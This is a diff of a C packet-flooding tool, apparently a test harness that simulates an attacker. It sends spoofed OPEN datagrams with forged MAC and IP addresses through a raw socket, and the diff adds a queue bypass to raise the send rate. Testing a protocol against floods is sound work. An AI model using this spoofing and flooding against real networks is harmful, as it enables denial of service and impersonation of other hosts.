@@ -2,8 +2,8 @@
  *
  * An attacker who sends OPENs as fast as asked, from addresses that are not his, out of one Ethernet device:
  *     flood DEVICE TARGET_MAC TARGET_IP TARGET_PORT SPOOFED_MAC SPOOFED_IP SECONDS RATE OPEN_FILE
- * OPEN_FILE holds one genuine OPEN. Of four datagrams one is that OPEN again, one has another token, one another session
- * id, one another MAC; each comes from another port. Prints what was sent as JSON.
+ * OPEN_FILE holds one genuine OPEN. Of four datagrams one is that OPEN again, one has another token, one another
+ * session id, one another MAC; each comes from another port. Prints what was sent as JSON.
  */
 #define _GNU_SOURCE
 #include <arpa/inet.h>
@@ -19,7 +19,11 @@
 #include <sys/socket.h>
 #include <time.h>
 
-enum { BATCH = 64, OPEN_BYTES = 136, HEAD = sizeof(struct ether_header) + sizeof(struct iphdr) + sizeof(struct udphdr) };
+enum {
+    BATCH = 64,
+    OPEN_BYTES = 136,
+    HEAD = sizeof(struct ether_header) + sizeof(struct iphdr) + sizeof(struct udphdr)
+};
 
 static uint8_t frames[BATCH][HEAD + OPEN_BYTES];
 static uint64_t random_state = 88172645463325252u;
@@ -45,7 +49,7 @@ static uint16_t ip_checksum(const void *head)
     for (int i = 0; i < 10; i++)
         sum += words[i];
     sum = (sum & 0xffff) + (sum >> 16);
-    return (uint16_t)~(sum + (sum >> 16));
+    return (uint16_t) ~(sum + (sum >> 16));
 }
 
 static uint64_t now_us(void)
@@ -98,7 +102,9 @@ int main(int argc, char **argv)
     fclose(f);
     int fd = socket(AF_PACKET, SOCK_RAW, 0);
     struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(argv[1])};
-    if (fd < 0 || bind(fd, (struct sockaddr *)&to, sizeof(to)) != 0)
+    int on = 1; /* no queue between us and the device */
+    if (fd < 0 || setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof(on)) != 0 ||
+        bind(fd, (struct sockaddr *)&to, sizeof(to)) != 0)
         return 1;
     prepare(argv, open);
     struct mmsghdr messages[BATCH] = {0};
